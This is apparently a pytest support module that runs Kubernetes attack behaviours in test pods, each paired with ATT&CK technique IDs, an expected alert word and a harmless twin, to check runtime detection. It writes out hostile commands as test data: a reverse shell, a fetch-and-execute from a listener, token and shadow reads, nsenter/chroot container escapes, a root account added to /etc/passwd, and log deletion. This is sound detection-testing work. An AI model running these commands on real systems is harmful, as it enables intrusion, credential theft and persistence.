"""What attackers do in pods, and what looks like it and is harmless, for a real cluster.

`TOOL` is a static program for what no shell can do; it is compiled where a compiler is.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from tests.support.real_cluster import RealCluster

IMAGE = "docker.io/library/workshop:demo"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
# Its number, among the processes of the node: not every machine lets anybody into its first one.
KUBELET = (
    "for p in /proc/[0-9]*; do read n < $p/comm; [ $n = kubelet ] && k=${p#/proc/}; done "
    "2>/dev/null"
)
LINKS = (
    *("unshare", "nsenter", "chroot", "seq", "sort", "base64", "awk", "crond", "passwd", "adduser"),
    *("timeout", "readlink", "true", "ln", "uname", "hostname", "tar", "cut", "tr", "date", "tee"),
)
TOOL = Path(__file__).with_suffix(".c")
COPIES = ("/bin/tool", "/sbin/apk", "/opt/xmrig", "/opt/report", "/opt/ledger", "/opt/nmap")


class Behaviour(NamedTuple):
    """What is done in a pod of `where`; a technique of ATT&CK and a word that its alert must have;
    and its harmless twin.
    """

    name: str
    attack: tuple[str, ...]
    techniques: tuple[str, ...]
    word: str
    twin: tuple[str, ...]
    where: str = "web"  # root: a privileged pod with the node's files and processes


def sh(text: str) -> tuple[str, ...]:
    """By the shell."""
    return "/bin/sh", "-c", text


def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
    """All of them. `door` is an address outside that listens on 4444 (anything) and 8000 (HTTP);
    `api` that of the API server.
    """
    return tuple(
        Behaviour(name, attack, tuple(techniques.split()), word, twin, *where)
        for name, attack, techniques, word, twin, *where in (
            ("shell", sh("id"), "T1059 T1609", "/bin/sh", ("/bin/ls", "/")),
            (
                "reverse shell",
                ("tool", "reverse", door, "4444"),
                "T1071 T1095",
                "sh -c true",
                ("tool", "connect", door, "4444"),
            ),
            (
                "token read by a shell",
                sh(f"cat {TOKEN}"),
                "T1552 T1528",
                TOKEN,
                sh("cat /var/run/secrets/kubernetes.io/serviceaccount/namespace"),
            ),
            ("shadow read", sh("cat /etc/shadow"), "T1003 T1552", "shadow", sh("cat /etc/passwd")),
            (
                "program replaced",
                sh("cp /bin/tool /usr/bin/sshd"),
                "T1036 T1105 T1222 T1505 T1543 T1554 T1574",
                "/usr/bin/sshd",
                sh("cp /bin/tool /data/sshd"),
            ),
            (
                "cron job",
                sh("echo '* * * * * root id' > /etc/cron.d/job"),
                "T1053",
                "/etc/cron.d/job",
                sh("cat /etc/cron.d/job || true"),
            ),
            (
                "key of SSH",
                sh("echo ssh-ed25519 AAAA > /root/.ssh/authorized_keys"),
                "T1098 T1021",
                "authorized_keys",
                sh("echo ssh-ed25519 AAAA > /root/notes"),
            ),
            (
                "history deleted",
                sh("rm -f /root/.bash_history"),
                "T1070",
                ".bash_history",
                sh("rm -f /root/notes"),
            ),
            (
                "logs deleted",
                sh("rm -f /var/log/auth.log"),
                "T1070 T1485",
                "/var/log/auth.log",
                sh("rm -f /data/auth.txt"),
            ),
            (
                "package manager",
                sh("/sbin/apk add nmap"),
                "T1072 T1105",
                "apk",
                sh("echo apk add nmap"),
            ),
            (
                "miner",
                sh("/opt/xmrig -o stratum+tcp://pool.example.com:3333"),
                "T1496",
                "xmrig",
                sh("/opt/report -o daily"),
            ),
            (
                "netcat listens",
                sh("/bin/nc -l -p 4445 </dev/null & sleep 0.3; kill $!"),
                "T1071 T1090 T1095 T1105 T1571 T1572",
                "nc",
                sh("ls -l /bin/nc"),
            ),
            (
                "scanner",
                sh(f"/opt/nmap -p 1-100 {door}"),
                "T1046",
                "nmap",
                sh("/opt/report -p 1-100"),
            ),
            (
                "namespaces of its own",
                sh("unshare -m true; unshare -U true"),
                "T1611 T1610 T1068 T1548",
                "unshare",
                sh("ls -l /proc/self/ns"),
                "root",
            ),
            (
                "into the node's namespaces",
                sh(f"{KUBELET}; nsenter -t $k -m /bin/true"),
                "T1611",
                "nsenter",
                sh(f"{KUBELET}; readlink /proc/$k/ns/mnt"),
                "root",
            ),
            (
                "mount",
                sh("mount -t tmpfs none /mnt"),
                "T1611",
                "mount",
                sh("mount > /dev/null"),
                "root",
            ),
            ("chroot", sh("chroot /host /bin/true"), "T1611", "chroot", sh("ls /host"), "root"),
            (
                "node's shadow read",
                sh("cat /host/etc/shadow > /dev/null"),
                "T1003 T1552 T1611",
                "shadow",
                sh("cat /host/etc/hostname > /dev/null"),
                "root",
            ),
            (
                "release agent",
                sh("mkdir -p /tmp/rdma; echo /cmd > /tmp/rdma/release_agent"),
                "T1611",
                "release_agent",
                sh("cat /tmp/rdma/release_agent || true"),
            ),
            (
                "program without a file",
                ("tool", "memfd"),
                "T1620 T1027 T1055 T1036",
                "memfd",
                ("tool", "fork"),
            ),
            ("another process traced", ("tool", "ptrace"), "T1055", "ptrace", ("tool", "fork")),
            (
                "set-uid bit",
                sh("chmod 4755 /data/helper"),
                "T1548 T1222",
                "/data/helper",
                sh("chmod 755 /data/helper"),
            ),
            (
                "fetched and run",
                sh(f"wget -q -O /tmp/x http://{door}:8000/x; chmod +x /tmp/x; /tmp/x"),
                "T1105 T1204 T1036 T1570",
                "/tmp/x",
                sh("ls /tmp"),
            ),
            (
                "address of the cloud's metadata",
                ("tool", "connect", "169.254.169.254", "80"),
                "T1552",
                "169.254.169.254",
                ("tool", "connect", door, "8000"),
            ),
            (
                "API server by an unusual program",
                sh(f"/bin/nc -w 1 {api} 6443 </dev/null"),
                "T1613 T1528 T1552 T1078 T1071 T1046 T1105 T1106 T1133",
                "6443",
                sh(f"cat /dev/null; echo {api} 6443"),
            ),
            (
                "runtime's socket",
                ("tool", "unix", "/var/run/docker.sock"),
                "T1610 T1611 T1609",
                "docker.sock",
                sh("ls /var/run > /dev/null"),
            ),
            (
                "library preloaded",
                sh("echo /tmp/x.so > /etc/ld.so.preload"),
                "T1574",
                "ld.so.preload",
                sh("cat /etc/ld.so.preload || true"),
            ),
            (
                "user added",
                sh("echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd"),
                "T1136 T1098 T1078",
                "/etc/passwd",
                sh("cat /etc/passwd > /dev/null"),
            ),
            ("root again", ("tool", "root"), "T1548 T1068 T1078", "setuid", ("tool", "nobody")),
            (
                "BPF program",
                ("tool", "bpf"),
                "T1014 T1547",
                "bpf",
                ("tool", "fork"),
                "root",
            ),
            (
                "first process killed",
                sh("/bin/kill -9 1"),
                "T1489 T1562 T1529 T1499",
                "kill",
                sh("/bin/kill -0 1"),
            ),
            (
                "text decoded into a shell",
                sh("echo aWQK | base64 -d | sh"),
                "T1027 T1140 T1105",
                "base64 -d",
                sh("echo aWQK | base64 -d"),
            ),
            (
                "keys searched for",
                sh("/bin/find /root /etc -name id_rsa"),
                "T1552",
                "id_rsa",
                sh("/bin/find /data -name report"),
            ),
        )
    )


def image(cluster: RealCluster) -> None:
    """Makes the image of the pods that are attacked, and loads it into the nodes."""
    compiler = shutil.which("gcc") or shutil.which("cc")
    if compiler is None:
        pytest.skip("no C compiler")
    place = cluster.place / "image"
    tool = place / "tool"
    subprocess.run([compiler, "-static", "-Os", "-w", "-o", tool, TOOL], check=True)
    tar = place / "workshop.tar"
    maker = Path(os.environ["MARTELLO_CLUSTER"]).parent / "image.py"
    files = [f"{tool}:{path}" for path in COPIES]
    empty = place / "empty"
    empty.write_text("")
    for path in ("/root/.ssh/known", "/root/.bash_history", "/root/notes", "/etc/cron.d/none"):
        files.append(f"{empty}:{path}")
    for path in (
        "/var/log/auth.log",
        "/data/auth.txt",
        "/data/helper",
        "/usr/bin/none",
        "/mnt/x",
        "/srv/x",
    ):
        files.append(f"{empty}:{path}")
    command = [sys.executable, str(maker), str(tar), IMAGE, "--busybox", *files, "--"]
    subprocess.run([*command, "sleep", "3600"], check=True)
    cluster.call("image", str(tar))


def target(
    place: str, *, replicas: int = 1, root: bool = False, does: str = "exec sleep 3600"
) -> Mapping[str, Any]:
    """A Deployment `namespace/name` that waits to be attacked, or does something; `root`: with
    everything of the node's.
    """
    where, name = place.split("/")
    links = " ".join(LINKS)
    begin = f"for one in {links}; do ln -sf /bin/busybox /bin/$one; done; {does}"
    container: dict[str, Any] = {
        "name": "main",
        "image": IMAGE,
        "imagePullPolicy": "Never",
        "command": ["/bin/busybox", "sh", "-c", begin.replace("ln -sf", "/bin/busybox ln -sf")],
    }
    pod: dict[str, Any] = {"containers": [container], "terminationGracePeriodSeconds": 0}
    if root:
        container["securityContext"] = {"privileged": True}
        container["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
        pod |= {"hostPID": True, "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "namespace": where},
        "spec": {
            "replicas": replicas,
            "selector": {"matchLabels": {"app": name}},
            "template": {"metadata": {"labels": {"app": name}}, "spec": pod},
        },
    }
